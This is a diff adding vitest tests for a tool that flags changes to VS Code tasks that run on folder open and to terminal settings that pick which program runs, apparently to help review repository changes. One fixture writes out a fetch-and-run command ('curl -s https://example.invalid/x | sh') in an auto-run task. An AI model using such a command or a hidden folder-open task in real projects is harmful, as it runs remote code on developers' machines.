@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { EDITOR_SETTINGS_PATHSPECS, editorSettingsChanges, helixProgramSettings, stellarEditorSettings, zedProgramSettings } from "./editor-settings.js";
+import { automaticTasks, EDITOR_SETTINGS_PATHSPECS, editorSettingsChanges, helixProgramSettings, stellarEditorSettings, vscodeProgramSettings, zedProgramSettings } from "./editor-settings.js";
 
 describe("stellarEditorSettings", () => {
   it("reads VS Code's JSON with comments and trailing commas, dotted keys and a stellarSecrets object alike, strings as written", () => {
@@ -134,5 +134,78 @@ formatter = { command = "prettier", args = ["--parser", "yaml"] }
       { path: "x/.zed/settings.json", settings: ["lsp.ra.binary"] },
     ]);
     expect(EDITOR_SETTINGS_PATHSPECS).toEqual(expect.arrayContaining([":(top,glob)**/.zed/settings.json", ":(top,glob)**/.helix/languages.toml"]));
+  });
+});
+
+describe("VS Code tasks that run when a member opens the folder (runOptions.runOn folderOpen)", () => {
+  const tasks = `{
+  // the team's tasks
+  "version": "2.0.0",
+  "options": { "env": { "A": "1" } },
+  "tasks": [
+    { "label": "prepare", "type": "shell", "command": "./tools/prepare.sh", "dependsOn": ["deps"], "runOptions": { "runOn": "folderOpen" } },
+    { "label": "deps", "type": "shell", "command": "npm ci", "dependsOn": "lint" },
+    { "label": "lint", "type": "shell", "command": "npm run lint" },
+    { "label": "build", "type": "shell", "command": "npm run build", },
+  ],
+}`;
+  it("reads each task that runs on open and those it depends on (transitively), and the file's other fields; not other tasks", () => {
+    expect([...vscodeProgramSettings(tasks, ".vscode/tasks.json")!.keys()]).toEqual(['task "prepare"', 'task "deps"', 'task "lint"', "tasks options"]);
+    expect(automaticTasks({ tasks: [{ label: "build", command: "make" }], options: { cwd: "x" } })).toEqual(new Map());
+    // a workspace file's tasks, next to its settings
+    const workspace = `{ "folders": [{ "path": "." }], "settings": { "stellarSecrets.cliPath": "x" }, "tasks": { "version": "2.0.0", "tasks": [{ "label": "w", "command": "./w.sh", "runOptions": { "runOn": "folderOpen" } }] } }`;
+    expect([...vscodeProgramSettings(workspace, "team.code-workspace")!.keys()]).toEqual(["stellarSecrets.cliPath", 'task "w"']);
+  });
+
+  it("names a change to a task that runs on open (its command, a task it depends on, the file's options), a task made to run on open, and nothing for other tasks; git is asked about tasks.json too", () => {
+    const changes = editorSettingsChanges([
+      { path: ".vscode/tasks.json", before: tasks, after: tasks.replace("./tools/prepare.sh", "curl -s https://example.invalid/x | sh") },
+      { path: "a/.vscode/tasks.json", before: tasks, after: tasks.replace("npm run lint", "./lint.sh") },
+      { path: "b/.vscode/tasks.json", before: tasks, after: tasks.replace('"A": "1"', '"PATH": "./bin"') },
+      { path: "c/.vscode/tasks.json", before: tasks, after: tasks.replace("npm run build", "./build.sh") },
+      { path: "d/.vscode/tasks.json", before: undefined, after: tasks },
+      { path: "e/.vscode/tasks.json", before: tasks.replace(', "runOptions": { "runOn": "folderOpen" }', ""), after: tasks },
+      { path: "f/.vscode/tasks.json", before: tasks, after: `${tasks}\n}` },
+      { path: "g/.vscode/tasks.json", before: tasks, after: tasks.replace("// the team's tasks", "// ours") },
+      { path: "w.code-workspace", before: "{}", after: `{ "tasks": { "tasks": [{ "label": "w", "command": "./w.sh", "runOptions": { "runOn": "folderOpen" } }] } }` },
+    ]);
+    expect(changes).toEqual([
+      { path: ".vscode/tasks.json", settings: ['task "prepare"'] },
+      { path: "a/.vscode/tasks.json", settings: ['task "lint"'] },
+      { path: "b/.vscode/tasks.json", settings: ["tasks options"] },
+      { path: "d/.vscode/tasks.json", settings: ['task "deps"', 'task "lint"', 'task "prepare"', "tasks options"] },
+      { path: "e/.vscode/tasks.json", settings: ['task "deps"', 'task "lint"', 'task "prepare"', "tasks options"] },
+      { path: "f/.vscode/tasks.json", settings: ['task "deps"', 'task "lint"', 'task "prepare"', "tasks options", "unreadable"] },
+      { path: "w.code-workspace", settings: ['task "w"'] },
+    ]);
+    expect(EDITOR_SETTINGS_PATHSPECS).toContain(":(top,glob)**/.vscode/tasks.json");
+  });
+});
+
+describe("VS Code's settings that choose the program a task or terminal runs", () => {
+  it("reads terminal.integrated automationProfile, defaultProfile, profiles, shell, env (dotted or nested) and task.allowAutomaticTasks; not other terminal settings", () => {
+    const settings = `{
+  // the team's terminal
+  "terminal.integrated.automationProfile.linux": { "path": "\${workspaceFolder}/tools/sh" },
+  "terminal": { "integrated": { "env": { "linux": { "PATH": "\${workspaceFolder}/bin:\${env:PATH}" } }, "fontSize": 13 } },
+  "task.allowAutomaticTasks": "on",
+  "terminal.integrated.scrollback": 5000,
+}`;
+    expect(vscodeProgramSettings(settings)).toEqual(
+      new Map([
+        ["terminal.integrated.automationProfile.linux", '{"path":"${workspaceFolder}/tools/sh"}'],
+        ["terminal.integrated.env.linux", '{"PATH":"${workspaceFolder}/bin:${env:PATH}"}'],
+        ["task.allowAutomaticTasks", '"on"'],
+      ]),
+    );
+    // in a workspace file's settings and a dev container's too
+    expect([...vscodeProgramSettings('{ "settings": { "terminal.integrated.defaultProfile.osx": "repo" } }', "a.code-workspace")!.keys()]).toEqual(["terminal.integrated.defaultProfile.osx"]);
+    expect([...vscodeProgramSettings('{ "customizations": { "vscode": { "settings": { "terminal.integrated.profiles.linux": { "repo": { "path": "./x" } } } } } }', ".devcontainer.json")!.keys()]).toEqual(["terminal.integrated.profiles.linux"]);
+    expect(
+      editorSettingsChanges([
+        { path: ".vscode/settings.json", before: "{}", after: settings },
+        { path: "a/.vscode/settings.json", before: "{}", after: '{ "terminal.integrated.fontSize": 13 }' },
+      ]),
+    ).toEqual([{ path: ".vscode/settings.json", settings: ["task.allowAutomaticTasks", "terminal.integrated.automationProfile.linux", "terminal.integrated.env.linux"] }]);
   });
 });
